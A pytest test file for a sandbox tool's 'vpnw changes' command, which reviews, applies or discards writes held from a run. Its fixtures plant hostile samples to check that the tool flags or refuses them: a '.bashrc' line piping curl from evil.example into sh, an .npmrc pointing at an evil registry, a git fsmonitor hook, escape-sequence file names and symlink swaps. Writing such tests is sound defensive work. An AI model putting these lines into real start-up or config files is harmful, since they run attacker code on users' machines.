"""`vpnw changes` over a held layer laid out as docs/architecture.md ("The held
layer on disk") says the run leaves it: list, diff, apply, drop, prune. The
end-to-end side (a sandboxed program's writes held, then applied) is in
tests/test_e2e_held.py; here the layer is built by hand so each corner,
hostile ones included, can be set up exactly."""
from __future__ import annotations

import hashlib
import json
import os
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from stages.record import held as held_mod
from stages.recorder.changes import changes_command


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class Layer:
    """A run's held directory: one layer over `home`, entries as the run left them."""

    def __init__(self, root: Path, home: Path, run: str = "r-36e0ba") -> None:
        self.root, self.home, self.run = root, home, run
        self.dir = root / run
        self.upper = self.dir / "layers" / "0" / "upper"
        self.upper.mkdir(parents=True)
        (self.dir / "layers.json").write_text(json.dumps([{"mount": str(home), "upper": "layers/0/upper"}]))
        self.entries: list[dict] = []

    def _before(self, real: Path) -> dict:
        if not real.exists():
            return {"exists": False, "size": None, "mtime_ns": None, "sha256": None}
        st = real.stat()
        return {"exists": True, "size": st.st_size, "mtime_ns": st.st_mtime_ns,
                "sha256": _sha(real.read_bytes()) if real.is_file() else None}

    def file(self, rel: str, data: bytes, runs_later: str | None = None, mode: int = 0o644) -> Path:
        held = self.upper / rel
        held.parent.mkdir(parents=True, exist_ok=True)
        held.write_bytes(data)
        real = self.home / rel
        self.entries.append({"path": str(real), "kind": "file", "size": len(data), "sha256": _sha(data),
                             "mode": mode, "runs_later": runs_later, "before": self._before(real)})
        return real

    def deleted(self, rel: str) -> Path:
        real = self.home / rel
        self.entries.append({"path": str(real), "kind": "deleted", "size": None, "sha256": None,
                             "mode": None, "runs_later": None, "before": self._before(real)})
        return real

    def save(self) -> None:
        (self.dir / "held.json").write_text(json.dumps(
            {"v": 1, "run": self.run, "truncated": False, "entries": self.entries}))


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return home


@pytest.fixture
def layer(home, tmp_path):
    return Layer(tmp_path / "state" / "vpnw" / "held", home)


def changes(*args: str):
    return CliRunner().invoke(changes_command, list(args))


def test_the_list_names_what_runs_later_first_and_says_nothing_reached_the_files(home, layer):
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    layer.file(".cache/pip/x", b"cache", None)
    layer.file(".bashrc", b"alias ll='ls -l'\ncurl evil.example | sh\n", "shell start-up")
    layer.file(".local/bin/vpnw", b"#!/bin/sh\n", "vpnw", mode=0o755)
    layer.save()
    result = changes()
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == ("run r-36e0ba holds 3 writes outside its work set; nothing reached "
                        "the real files")
    assert lines[1].strip() == "would run later on its own (review these first):"
    assert lines[2].split() == ["M", "~/.bashrc", "shell", "start-up"]
    assert lines[3].split() == ["A", "~/.local/bin/vpnw", "vpnw"]
    assert lines[4].strip() == "other:"
    assert lines[5].split() == ["A", "~/.cache/pip/x", "5", "B"]
    assert "vpnw changes r-36e0ba --diff" in lines[-1]
    # A prefix of the run id, as git takes a short hash.
    assert changes("36e").output == result.output


def test_a_hostile_name_or_line_never_reaches_the_terminal_raw(home, layer):
    layer.file("evil\x1b]0;pwned\x07\n.txt", b"line \x1b[8m hidden\n")
    layer.save()
    listing = changes().output
    assert "\x1b" not in listing and "\\x1b]0;pwned\\x07\\x0a.txt" in listing
    diff = changes("--diff").output
    assert "\x1b" not in diff and "+line \\x1b[8m hidden" in diff


def test_diff_shows_real_against_held_and_says_why_there_is_none(home, layer):
    (home / ".gitconfig").write_text("[user]\n\tname = me\n")
    layer.file(".gitconfig", b"[user]\n\tname = me\n[core]\n\tfsmonitor = /tmp/x\n", "git")
    layer.file("blob.bin", b"\x00\x01\x02")
    layer.save()
    out = changes("--diff").output.splitlines()
    assert "── ~/.gitconfig  (git)" in out
    assert f"--- {home}/.gitconfig" in out and "+[core]" in out and "+\tfsmonitor = /tmp/x" in out
    assert "(binary: 0 → 3 bytes)" in out
    only = changes("r-36e0ba", "--diff", str(home / "blob.bin")).output
    assert ".gitconfig" not in only and "binary" in only


def test_apply_writes_only_what_is_named_without_setuid_and_forgets_it(home, layer):
    cache = layer.file(".cache/tool/state", b"new state\n", mode=0o4755)
    other = layer.file(".npmrc", b"registry=http://evil.example/\n", "package manager")
    layer.save()
    result = changes("r-36e0ba", "--apply", str(home / ".cache"))
    assert result.exit_code == 0, result.output
    assert cache.read_bytes() == b"new state\n"
    assert cache.stat().st_mode & 0o7777 == 0o755       # the setuid bit the program chose is dropped
    assert not other.exists()
    manifest = json.loads((layer.dir / "held.json").read_text())
    assert [e["path"] for e in manifest["entries"]] == [str(other)]
    # The last one applied: the layer is gone with it.
    assert changes("--apply", str(other)).exit_code == 0
    assert other.read_bytes() == b"registry=http://evil.example/\n"
    assert not layer.dir.exists()


def test_apply_refuses_a_file_changed_outside_since_the_run(home, layer):
    (home / ".profile").write_text("original\n")
    real = layer.file(".profile", b"held\n", "shell start-up")
    layer.save()
    real.write_text("the person edited it since\n")
    result = changes("--apply", str(real))
    assert result.exit_code == 1
    assert "REFUSED" in result.output and "changed since the run" in result.output
    assert real.read_text() == "the person edited it since\n"
    # Still held: the person may drop it or look again.
    assert json.loads((layer.dir / "held.json").read_text())["entries"]


def test_apply_refuses_a_file_created_outside_since_the_run(home, layer):
    real = layer.file("new.txt", b"held\n")
    layer.save()
    real.write_text("mine\n")
    result = changes("--apply", str(real))
    assert result.exit_code == 1 and "created since the run" in result.output
    assert real.read_text() == "mine\n"


def test_apply_never_follows_a_link_inside_the_layer(home, layer, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("not for the program\n")
    real = layer.file("notes.txt", b"x")
    held_file = layer.upper / "notes.txt"
    held_file.unlink()
    held_file.symlink_to(secret)           # swapped for a link after the run listed it
    layer.file("sub/inner.txt", b"y")
    (layer.upper / "sub" / "inner.txt").unlink()
    (layer.upper / "sub").rmdir()
    (layer.upper / "sub").symlink_to(tmp_path)
    (tmp_path / "inner.txt").write_text("outside the layer\n")
    layer.save()
    result = changes("--apply", str(real), str(home / "sub"))
    assert result.exit_code == 1
    assert result.output.count("REFUSED") == 2
    assert not real.exists() and not (home / "sub" / "inner.txt").exists()


def test_apply_refuses_a_held_file_that_is_not_what_the_run_left(home, layer):
    real = layer.file("a.txt", b"what the run left\n")
    layer.save()
    (layer.upper / "a.txt").write_bytes(b"changed in the layer later\n")
    result = changes("--apply", str(real))
    assert result.exit_code == 1 and "not what the run left" in result.output
    assert not real.exists()


def test_apply_of_a_deletion_removes_the_real_file(home, layer):
    victim = home / "old.txt"
    victim.write_text("old\n")
    layer.deleted("old.txt")
    layer.save()
    assert changes("--apply", str(victim)).exit_code == 0
    assert not victim.exists()


def test_drop_named_then_all(home, layer):
    a = layer.file("a", b"a")
    layer.file("b", b"b")
    layer.save()
    result = changes("--drop", str(a))
    assert result.exit_code == 0 and "1 left" in result.output
    assert [e["path"] for e in json.loads((layer.dir / "held.json").read_text())["entries"]] == [
        str(home / "b")]
    result = changes("r-36e0ba", "--drop")
    assert result.exit_code == 0 and not layer.dir.exists()
    assert not (home / "a").exists() and not (home / "b").exists()


def test_usage_mistakes(home, layer):
    layer.file("a", b"a")
    layer.save()
    assert changes("--apply").exit_code == 121
    assert changes("--apply", "--drop", "x").exit_code == 121
    result = changes("r-nosuch")
    assert result.exit_code == 121 and "no held writes for run r-nosuch" in result.output
    result = changes("--apply", str(home / "not-held"))
    assert result.exit_code == 1 and "not among run r-36e0ba's held writes" in result.output


def test_an_ambiguous_prefix_is_refused(home, tmp_path):
    root = tmp_path / "state" / "vpnw" / "held"
    for run in ("r-36e0ba", "r-36f111"):
        Layer(root, home, run).save()
    result = changes("36", "--diff")
    assert result.exit_code != 0 and "r-36e0ba, r-36f111" in result.output


def test_no_held_writes_at_all(home):
    result = changes()
    assert result.exit_code == 0 and "no run holds writes" in result.output


def test_prune_keeps_layers_bounded_by_age_and_size(tmp_path):
    root = tmp_path / "held"
    now = time.time()
    for name, age, size, ended in (("r-old", 40 * 86400, 10, True), ("r-mid", 2 * 86400, 6000, True),
                                   ("r-going", 3 * 86400, 6000, False), ("r-new", 60, 6000, True),
                                   ("r-live", 50 * 86400, 10, True)):
        d = root / name
        d.mkdir(parents=True)
        (d / "blob").write_bytes(b"x" * size)
        if ended:
            (d / "held.json").write_text("{}")
        os.utime(d, (now - age, now - age))
    sizes = {d.name: held_mod._size_of(str(d)) for d in root.iterdir()}
    # Room for all but r-old and r-mid: once r-old is gone by age, the size
    # budget takes the oldest ended layer, r-mid, and skips r-going.
    keep = sum(sizes.values()) - sizes["r-old"] - sizes["r-mid"]
    removed = held_mod.prune(str(root), now=now, keep_bytes=keep, spare={"r-live"})
    # r-going has no held.json yet: a run going on, which only age removes.
    assert removed == ["r-old", "r-mid"]
    assert sorted(p.name for p in root.iterdir()) == ["r-going", "r-live", "r-new"]


def test_a_manifest_that_is_not_ours_is_refused(home, layer):
    (layer.dir / "held.json").write_text('{"v": 7}')
    result = changes()
    assert result.exit_code == 125 and "not a held-writes manifest" in result.output


def test_a_layer_that_points_outside_its_run_directory_is_refused(home, layer):
    (layer.dir / "layers.json").write_text(json.dumps([{"mount": str(home), "upper": "../../x"}]))
    layer.file("a", b"a")
    layer.save()
    result = changes()
    assert result.exit_code == 125 and "outside its run's directory" in result.output
